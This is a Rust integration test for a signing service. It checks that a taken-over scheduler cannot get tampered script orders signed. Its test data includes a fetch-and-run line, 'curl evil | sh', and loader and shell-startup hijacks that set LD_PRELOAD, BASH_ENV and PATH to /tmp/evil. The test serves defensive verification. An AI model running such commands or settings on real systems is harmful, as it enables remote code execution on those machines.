//! A scheduler that was taken over holds honest grants and requests, and gets nothing else signed with them.

use std::collections::BTreeMap;

use borealis_bus_schema::codes::Code;
use borealis_bus_schema::ids::{CommandId, Guid, JobId, RoleName, RunId, VerbName};
use borealis_bus_schema::messages::scheduler::OUTPUT_LIMIT_BYTES;
use borealis_bus_schema::operator::{OperatorCall, Proof};
use borealis_bus_schema::order::{Context, Digest, Language, MAX_VALIDITY_MS, Order, OrderBody, ScriptBody};
use borealis_service_kit::random;
use serde_json::json;

use crate::fleet::{Fleet, ping_order};
use crate::harness::{code, now};

const TEXT: &str = "echo honest";

fn script_order(command: CommandId, guid: Guid) -> Order {
    Order {
        role: RoleName::script(),
        verb: VerbName::run(),
        body: OrderBody::Script(ScriptBody {
            language: Language::Bash,
            script: TEXT.as_bytes().to_vec(),
            digest: Digest::of(TEXT.as_bytes()),
            args: Vec::new(),
            env: BTreeMap::new(),
            timeout_ms: 60_000,
            output_limit_bytes: OUTPUT_LIMIT_BYTES,
        }),
        ..ping_order(command, guid)
    }
}

/// Lists what a thief would rather have signed, each with what it changes.
fn wanted(honest: &Order, command: CommandId, other: Guid) -> Vec<(&'static str, Order)> {
    let with = |change: &dyn Fn(&mut ScriptBody)| {
        let mut order = honest.clone();
        if let OrderBody::Script(script) = &mut order.body {
            change(script);
        }
        order
    };
    let variable = |name: &'static str| {
        with(&|script| {
            script.env.insert(name.to_owned(), "/tmp/evil".into());
        })
    };
    let text = |text: &'static str| {
        with(&|script| {
            script.script = text.as_bytes().to_vec();
            script.digest = Digest::of(text.as_bytes());
        })
    };
    vec![
        ("BASH_ENV", variable("BASH_ENV")),
        ("ENV", variable("ENV")),
        ("LD_PRELOAD", variable("LD_PRELOAD")),
        ("PATH", variable("PATH")),
        ("another script", text("curl evil | sh")),
        (
            "a script behind the honest digest",
            with(&|s| s.script = b"evil".to_vec()),
        ),
        ("an argument", with(&|s| s.args.push("-c".into()))),
        ("another interpreter", with(&|s| s.language = Language::Python)),
        ("more time", with(&|s| s.timeout_ms *= 2)),
        ("more output", with(&|s| s.output_limit_bytes *= 2)),
        (
            "another context",
            Order {
                context: Context::CurrentUser,
                ..honest.clone()
            },
        ),
        (
            "a second attempt",
            Order {
                attempt: 2,
                ..honest.clone()
            },
        ),
        (
            "a second run",
            Order {
                run: random::id(),
                ..honest.clone()
            },
        ),
        (
            "another device",
            Order {
                guid: other,
                run: RunId::of_job(&JobId::of_command(&command), &other),
                ..honest.clone()
            },
        ),
        (
            "another device under the honest run",
            Order {
                guid: other,
                ..honest.clone()
            },
        ),
        (
            "a week",
            Order {
                expires_at: now().plus_ms(7 * MAX_VALIDITY_MS),
                ..honest.clone()
            },
        ),
        (
            "tomorrow",
            Order {
                issued_at: now().plus_ms(MAX_VALIDITY_MS),
                expires_at: now().plus_ms(MAX_VALIDITY_MS * 2),
                ..honest.clone()
            },
        ),
    ]
}

#[tokio::test]
async fn a_taken_over_scheduler_has_nothing_signed_that_nobody_asked_for() {
    let fleet = Fleet::start().await;
    let (guid, other) = (fleet.device("default").await, fleet.device("default").await);
    let command: CommandId = random::id();
    let body = json!({
        "targets": {"guids": [guid]}, "language": "bash", "script": TEXT, "timeout_ms": 60_000,
    });
    let call = fleet.job(&body, command);
    let grant = fleet.grant(&call).await;
    let honest = script_order(command, guid);
    fleet.until(&grant, &call, &honest, |reply| reply.is_ok()).await;

    let before = fleet.signing.events().unwrap();
    for (what, order) in wanted(&honest, command, other) {
        let refused = code(fleet.sign(&grant, &call, vec![order.clone()]).await);
        assert!(
            matches!(refused, Code::GrantMismatch | Code::InvalidField),
            "{what}: {refused:?}"
        );
        // Nor beside the honest one.
        let refused = code(fleet.sign(&grant, &call, vec![honest.clone(), order]).await);
        assert!(
            matches!(refused, Code::GrantMismatch | Code::InvalidField),
            "{what}: {refused:?}"
        );
    }

    // A second request of the same content, which the gateway held back until it was too old to be granted anything: what
    // was granted to the first does not serve it.
    let held_back: CommandId = random::id();
    let old = Proof::new(
        &fleet.ada.key,
        fleet.ada.session,
        held_back,
        now().plus_ms(-600_000),
        &call.method,
        &call.path,
        &call.body,
    );
    let second = OperatorCall {
        proof: Some(old),
        ..call.clone()
    };
    let refused = fleet.sign(&grant, &second, vec![script_order(held_back, guid)]).await;
    assert_eq!(code(refused), Code::GrantMismatch);
    // Nor does a session's biscuit, nor the grant of another job.
    let another = fleet.job(
        &json!({"targets": {"all": true}, "language": "sh", "script": "true"}),
        random::id(),
    );
    let other_grant = fleet.grant(&another).await;
    let refused = fleet.sign(&other_grant, &call, vec![honest.clone()]).await;
    assert_eq!(code(refused), Code::GrantMismatch);
    let refused = fleet.sign(&fleet.ada.token, &call, vec![honest.clone()]).await;
    assert_eq!(code(refused), Code::TokenInvalid);
    assert_eq!(fleet.signing.events().unwrap(), before, "nothing was written");

    fleet.sign(&grant, &call, vec![honest]).await.unwrap();
    fleet.stop().await;
}
